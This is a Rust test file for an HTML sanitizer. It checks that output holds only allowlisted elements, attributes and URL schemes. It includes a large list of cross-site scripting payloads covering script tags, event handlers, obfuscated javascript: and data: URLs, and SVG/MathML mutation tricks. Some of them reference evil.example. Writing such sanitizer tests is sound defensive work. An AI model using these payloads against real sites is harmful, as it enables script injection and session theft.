//! `content_html` is safe to show: whatever comes in, what a browser makes of what goes out holds nothing but the elements,
//! attributes and schemes listed here. The lists are this test's own, so that a change of the engine's has to be meant.

use copydesk::{
    bounds::Deadline,
    input::RawDocument,
    options::{Format, Options},
};
use proptest::{
    prelude::*,
    sample::select,
    test_runner::{Config, RngSeed, TestRunner},
};
use url::Url;

use crate::{
    conservation::PIPELINE,
    content_tree,
    dom::{self, Step},
};

const ELEMENTS: &[&str] = &[
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "pre",
    "blockquote",
    "figure",
    "figcaption",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "td",
    "th",
    "br",
    "hr",
    "img",
    "a",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "del",
    "ins",
    "sub",
    "sup",
    "code",
    "kbd",
    "samp",
    "var",
    "mark",
    "small",
    "q",
    "cite",
    "abbr",
    "time",
    "ruby",
    "rb",
    "rt",
    "rp",
    "bdi",
    "details",
    "summary",
    "span",
    "div",
    "section",
];

fn is_allowed(element: &str, attribute: &str, value: &str) -> bool {
    let number = || !value.is_empty() && value.len() <= 4 && value.bytes().all(|b| b.is_ascii_digit());
    match (element, attribute) {
        ("a", "href") | ("img", "src") => is_safe_url(value),
        ("span", "class") => value == "math inline",
        ("div", "class") => value == "math display",
        ("section", "class") => value == "footnotes",
        ("a", "id") => value.strip_prefix("fnref-").is_some_and(is_note_number),
        ("li", "id") => value.strip_prefix("fn-").is_some_and(is_note_number),
        ("a", "rel") => value == "noopener nofollow",
        ("img", "alt") | ("time", "datetime") | ("abbr", "title") => true,
        ("img", "width" | "height") | ("td" | "th", "colspan" | "rowspan") | ("ol", "start") => number(),
        ("blockquote", "class") => value == "callout",
        ("code", "class") => value.strip_prefix("language-").is_some_and(|language| {
            let fits = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"+#.-".contains(&b);
            !language.is_empty() && language.len() <= 24 && language.bytes().all(fits)
        }),
        (_, "dir") => matches!(value, "ltr" | "rtl"),
        _ => false,
    }
}

fn is_note_number(value: &str) -> bool {
    !value.is_empty() && value.bytes().all(|b| b.is_ascii_digit())
}

/// Whether a browser would follow it to `http`, `https` or `mailto`, from a page of ours.
fn is_safe_url(value: &str) -> bool {
    let base = Url::parse("https://base.example/a/b").expect("a URL");
    base.join(value)
        .is_ok_and(|url| matches!(url.scheme(), "http" | "https" | "mailto"))
}

/// What is wrong with the document that a browser makes of this, if anything.
fn fault(html: &str) -> Option<String> {
    let steps = dom::document(&format!("<!doctype html><html><head></head><body>{html}"));
    // html, head, its close and body are ours.
    let acting = steps.iter().skip(4).find_map(|step| match step {
        Step::Open(name, is_html, attributes) => {
            let bad = attributes.iter().find(|(a, value)| !is_allowed(name, a, value));
            match (ELEMENTS.contains(&name.as_str()) && *is_html, bad) {
                (false, _) => Some(format!("<{name}>")),
                (true, Some(bad)) => Some(format!("<{name} {}={:?}>", bad.0, bad.1)),
                (true, None) => None,
            }
        }
        Step::Comment => Some("a comment".into()),
        Step::Text(_) | Step::Close => None,
    });
    acting.or_else(|| content_tree::fault(html))
}

pub(crate) fn clean(document: &str, query: &str) -> String {
    if document.is_empty() {
        return String::new(); // nothing was left the first time
    }
    let pairs = url::form_urlencoded::parse(query.as_bytes());
    let options = Options {
        format: Some(Format::Html),
        ..Options::from_pairs(pairs).expect("good options")
    };
    let sent = RawDocument {
        bytes: document.as_bytes(),
        content_type: Some("text/html; charset=utf-8"),
        ..RawDocument::default()
    };
    let deadline = Deadline::after(PIPELINE.bounds().time);
    let answer = PIPELINE
        .normalize(&sent, &options, &deadline)
        .unwrap_or_else(|error| panic!("{error}: {document:?}"));
    let mut html = String::from_utf8(answer.body).expect("UTF-8");
    assert_eq!(html.pop(), Some('\n'));
    html
}

const PARAGRAPH: &str = "<p>The harbour of the town was built by fishermen, and it has been open all year round since then, \
    in summer as in winter, and every morning the boats come back with what the night has given them.</p>";

fn forms(vector: &str) -> [String; 4] {
    [
        vector.to_owned(),
        format!("---\ntitle: t\n---\n\n<div>{vector}</div>\n"),
        format!(
            "<!doctype html><html><head><title>t</title></head><body><article>{PARAGRAPH}{vector}{PARAGRAPH}</article></body></html>"
        ),
        format!("<table><tr><td>{vector}<td>x<tr><td>y<td>z</table><pre>{vector}</pre><ul><li>{vector}</ul>"),
    ]
}

/// Written here, by what they try.
const VECTORS: &[&str] = &[
    // Scripts, and what is like one.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script/x>",
    "<script>'</script><img src=x onerror=alert(1)>'</script>",
    "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script\u{c}>alert(1)</script\u{c}>",
    "<%script>alert(1)</%script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><script>alert(1)</script></noscript>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>text</p>",
    "<p/onmouseover=alert(1)>text</p>",
    "<a href=/x onclick=alert(1)//>text</a>",
    "<img src=x` onerror=alert(1)//`>",
    "<img \"\"\"><b onclick=alert(1)>\">x</b>",
    "<p title=\"x\"onclick=\"alert(1)\">text</p>",
    "<td onclick=alert(1)>text</td>",
    "<details open ontoggle=alert(1)>text</details>",
    "<marquee onstart=alert(1)>text</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<p a=1 a=2 onclick=x onclick=alert(1)>text</p>",
    "<p OnClIcK\n=\nalert(1)>text</p>",
    "<p =onclick=alert(1)>text</p>",
    "<p '/onclick=alert(1)>text</p>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript\r:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6a&#x61;vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert&lpar;1&rpar;'>x</a>",
    "<a href='javascript\u{200b}:alert(1)'>x</a>",
    "<a href='\u{3000}javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='&#0;javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='livescript:x'>x</a><a href='mocha:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='blob:https://x.example/1'>x</a>",
    "<a href='view-source:https://x.example'>x</a><a href='filesystem:https://x.example/t'>x</a>",
    "<a href='ms-word:ofe|u|https://x.example'>x</a><a href='intent://x#Intent;end'>x</a>",
    "<a href='jar:https://x.example!/x'>x</a><a href='feed:javascript:alert(1)'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a><a href='//javascript:alert(1)'>x</a>",
    "<a href='https://javascript:alert(1)@x.example'>x</a>",
    "<a href='\\\\evil.example'>x</a><a href='/\\evil.example'>x</a><a href='///evil.example'>x</a>",
    "<a href='x:y'>x</a><a href='1:2'>x</a><a href=':'>x</a><a href='a/b:c'>x</a>",
    "<a href='?javascript:alert(1)'>x</a><a href='#javascript:alert(1)'>x</a>",
    "<a href=/ok href=javascript:alert(1)>x</a><a href=javascript:alert(1) href=/ok>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a><a formaction=javascript:alert(1)>x</a>",
    "<a href=/ok ping=//evil.example target=_blank download style=x>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/png;base64,AAAA'>",
    "<img data-src=javascript:alert(1) src=x>",
    "<img data-original='java&#10;script:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, data:x 2x'>",
    "<img src=x srcset='//evil.example 1x' sizes=100vw loading=lazy lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src='x\" onerror=\"alert(1)'><img alt='\"><script>alert(1)</script>' src=x>",
    "<img src=x width='1\" onerror=\"alert(1)' height='100%'>",
    "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>x</q><del cite=javascript:x>x</del>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>a<td>b<tr><td>c<td>d</table>",
    "<image src=javascript:alert(1)><image src=x onerror=alert(1)>",
    // Frames, plugins, forms and what changes the page.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<iframe><p>x</iframe><img src=x onerror=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object><applet code=x>y</applet>",
    "<object><param name=movie value=javascript:alert(1)><p>fallback</object>",
    "<form action=javascript:alert(1)><input name=x><button formaction=javascript:alert(1)>go</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>go</button>",
    "<input type=image src=javascript:alert(1)><isindex action=javascript:alert(1) type=image>",
    "<select><option><img src=x onerror=alert(1)></select><textarea><img src=x onerror=alert(1)></textarea>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<base href=javascript:alert(1)//><a href=x>y</a>",
    "<base href=//evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)><link rel=import href=//evil.example>",
    "<dialog open>x</dialog><portal src=//evil.example></portal><slot name=x>y</slot>",
    "<body onload=alert(1)><html onclick=alert(1)>x",
    "<audio src=x onerror=alert(1)></audio><video poster=javascript:alert(1)>x</video><bgsound src=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)><layer src=javascript:alert(1)>x</layer><xss style=behavior:url(x)>x</xss>",
    // Styles.
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=\"width:expression(alert(1))\">x</p><p style='-moz-binding:url(//evil.example)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p><p class=x id=y name=z>x</p>",
    "<font face='\"><script>alert(1)</script>'>x</font>",
    // Foreign content and where it ends.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><image href=javascript:alert(1)></svg><svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<svg><![CDATA[</svg><script>alert(1)</script>]]>",
    "<div><svg></div><script>alert(1)</script><style><img src=x onerror=alert(1)></style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml><svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<math><![CDATA[<script>alert(1)</script>]]></math>",
    "<svg/><style><img src=x onerror=alert(1)></style><svg /><script>'<img src=x onerror=alert(1)>'</script>",
    // Raw text that turns into markup when it is read again.
    "<xmp><img src=x onerror=alert(1)></xmp><xmp>&lt;script>alert(1)&lt;/script></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea></textarea/><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)><script>alert(1)</script></template>",
    "<template><template></template><p>x</template><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;alert(1)",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p><code>&lt;/code&gt;&lt;script&gt;</code>",
    "<pre>\n\n&lt;/pre&gt;<script>alert(1)</script></pre>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞ \u{2028}<script\u{2028}>x",
    // Comments and other marks.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- <!-- --><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- never closed <script>alert(1)</script>",
    "<?xml version='1.0'?><?php echo '<script>alert(1)</script>' ?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!doctype x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "</p/onclick=alert(1)></br onclick=alert(1)></ script>x</>y",
    "<><img src=x onerror=alert(1)><3 <!x><<b onclick=alert(1)>x",
    // Tags and values that never end.
    "<img src=x onerror=alert(1)",
    "<a href=\"javascript:alert(1)",
    "<p title=\"<img src=x onerror=alert(1)>",
    "<a href='/x' title='><script>alert(1)</script>",
    "<p title=`<img src=x onerror=alert(1)>`>x",
    "<b <i onclick=alert(1)>x</i></b <u>",
    // Nesting that moves when it is read again.
    "<a href=/x><a href=javascript:alert(1)>y</a></a>",
    "<table><a href=javascript:alert(1)><tr><td>x</a><td>y<tr><td>z</table>",
    "<table><script>alert(1)</script><style>x</style><tr><td><table><tr><td>x</table></table>",
    "<p><table><p><b><table><td><i></table></b><img src=x onerror=alert(1)>",
    "<ul><li><ol></li><dd><li>x</ul></ol><dl><p><dt></dl>y",
    "<h1><h2><p>x</h1><ul><h3>y</h2></ul>z</h3>",
    "<ruby><rt><a href=/x><rp></ruby>x</a><rt>y",
    "<figure><figcaption><figure><p><figcaption>x</figure></p>y",
    "<pre><p>x<pre>y</p>\n<ul><li>z</pre></ul>",
    "<time datetime='\"><script>'>x</time><abbr title='\"><script>'>y</abbr><ol start='1\"'><li>z</ol>",
    // Formulas, footnotes, pictures and embeds.
    "<math><mtext><img src=x onerror=alert(1)></mtext><annotation encoding='TeX'>&lt;script&gt;x&lt;/script&gt;</annotation></math>",
    "<math alttext='\"><script>alert(1)</script>'><mi>x</mi></math>",
    "<script type='math/tex'>\\href{javascript:alert(1)}{x}</script><script type='math/tex'></span><img src=x onerror=alert(1)></script>",
    "<span class=katex data-latex='x^2\" onclick=alert(1) y=\"'>x</span> $x^2<img src=x onerror=alert(1)>$ \\(\\style{x}{y}\\)",
    "<sup><a id='r\"><script>' href='#n'>1</a></sup><ol><li id='n' class='footnotes x\" onclick=y'>note <a href='#r\"><script>'>↩</a></li></ol>",
    "<img srcset='javascript:alert(1) 9x, /a.png 1x' src='javascript:alert(1)'><noscript><img src='javascript:alert(1)' alt='\"><script>'></noscript>",
    "<amp-img src='data:text/html,x' alt=x onerror=alert(1)></amp-img><lite-youtube videoid='\"><script>alert(1)</script>'></lite-youtube>",
    "<video src='javascript:alert(1)' title='\"><script>'></video><iframe src='https://www.youtube.com/embed/a\"><script>' title='<img src=x onerror=alert(1)>'></iframe>",
    "<td colspan='2\" onclick=x'>a</td><p dir='rtl\" onclick=x'>b</p><p dir=rtl>c</p>",
];

#[test]
fn docs_list_every_element() {
    let content = include_str!("../../docs/content.md");
    let table = content
        .split("## What `content_html` may hold")
        .nth(1)
        .expect("the table");
    let lines = table.split("\n## ").next().expect("its end").lines();
    let table: String = lines.filter(|line| line.starts_with('|')).collect();
    for element in ELEMENTS {
        assert_eq!(table.matches(&format!("`{element}`")).count(), 1, "{element}");
    }
}

#[test]
fn nothing_that_acts_gets_through() {
    for vector in VECTORS {
        for document in forms(vector) {
            let html = clean(&document, "");
            assert_eq!(fault(&html), None, "{document:?} became {html:?}");
            assert_eq!(clean(&html, ""), html, "cleaned again, {document:?} differs");
        }
    }
}

#[test]
fn nothing_gets_through_by_being_kept_or_nested() {
    for vector in VECTORS {
        let html = clean(
            &format!("<div class=k>{vector}</div>"),
            "keep=.k,script,style,iframe,svg,form,button,*",
        );
        assert_eq!(fault(&html), None, "{vector:?} became {html:?}");
    }
    for opening in [
        "<b>",
        "<div>",
        "<a href=/x>",
        "<blockquote>",
        "<svg>",
        "<table><td>",
        "<ul><li>",
        "<ruby><rt>",
        "<x>",
    ] {
        let html = clean(&format!("{}<img src=x onerror=alert(1)>text", opening.repeat(1500)), "");
        assert_eq!(fault(&html), None, "{opening}");
    }
}

#[test]
fn any_soup_comes_out_safe_and_stays_as_it_is() {
    let open = select(
        &[
            "p",
            "div",
            "span",
            "b",
            "a href=/x",
            "a href=' javascript:x'",
            "i",
            "ul",
            "ol start=3",
            "li",
            "h2",
            "h3",
            "pre",
            "dl",
            "dt",
            "dd",
            "blockquote",
            "figure",
            "figcaption",
            "table",
            "caption",
            "tr",
            "td colspan=2",
            "th",
            "tbody",
            "svg",
            "math",
            "mtext",
            "style",
            "script",
            "title",
            "template",
            "noscript",
            "xmp",
            "textarea",
            "select",
            "option",
            "form",
            "ruby",
            "rt",
            "code",
            "q",
            "section",
            "x-y onclick=x",
            "desc",
            "foreignObject",
            "p dir=rtl",
            "img src=/a.png alt='<b>'",
            "br",
            "hr",
            "img src=data:x",
            "button",
            "center",
            "font",
            "small",
        ][..],
    );
    let close = select(
        &[
            "p",
            "div",
            "span",
            "b",
            "a",
            "i",
            "ul",
            "ol",
            "li",
            "h2",
            "pre",
            "dl",
            "blockquote",
            "figure",
            "figcaption",
            "table",
            "tr",
            "td",
            "svg",
            "math",
            "style",
            "script",
            "title",
            "template",
            "noscript",
            "xmp",
            "select",
            "form",
            "ruby",
            "code",
            "details",
            "summary",
            "div class=\"admonition note\"",
            "p class=admonition-title",
            "div data-callout=tip class=callout",
            "code class=\"hljs language-a&quot;onload=x\"",
            "pre class=\"brush: js\"",
            "td class=gutter",
            "span class=line",
            "input type=checkbox",
            "a class=headerlink href=#x",
            "div class=\"highlight-source-shell\"",
        ][..],
    );
    let text = select(
        &[
            "x",
            "word ",
            "中文",
            " ",
            "\n",
            "\n\n",
            "&nbsp;",
            "&lt;b&gt;",
            "&amp;lt;",
            "<",
            "<!--",
            "-->",
            "</",
            "\"",
            "'",
            ">",
            "]]>",
            "　　",
            "&#13;",
            "\r\n",
            "\t",
            "`*_#",
            "a, b",
            "&#0;",
        ][..],
    );
    let token = prop_oneof![
        4 => open.prop_map(|name| format!("<{name}>")),
        4 => close.prop_map(|name| format!("</{name}>")),
        4 => text.prop_map(str::to_owned),
    ];
    let config = Config {
        cases: 600,
        rng_seed: RngSeed::Fixed(1),
        failure_persistence: None,
        ..Config::default()
    };
    TestRunner::new(config)
        .run(&proptest::collection::vec(token, 1..40), |tokens| {
            let soup = format!("<p>begin</p>{}", tokens.concat());
            let html = clean(&soup, "");
            prop_assert_eq!(fault(&html), None, "{:?} became {:?}", soup, html);
            prop_assert_eq!(&clean(&html, ""), &html, "cleaned again, {:?} differs", soup);
            Ok(())
        })
        .unwrap_or_else(|error| panic!("{error}"));
}
